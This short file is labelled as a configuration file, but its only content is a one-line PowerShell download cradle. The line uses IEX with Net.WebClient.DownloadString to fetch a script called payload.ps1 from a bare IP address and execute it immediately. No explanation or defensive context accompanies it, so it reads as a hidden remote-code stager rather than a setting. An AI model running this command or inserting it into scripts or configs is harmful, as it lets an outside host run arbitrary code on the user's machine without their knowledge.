# config 5399 v0
IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/payload.ps1')
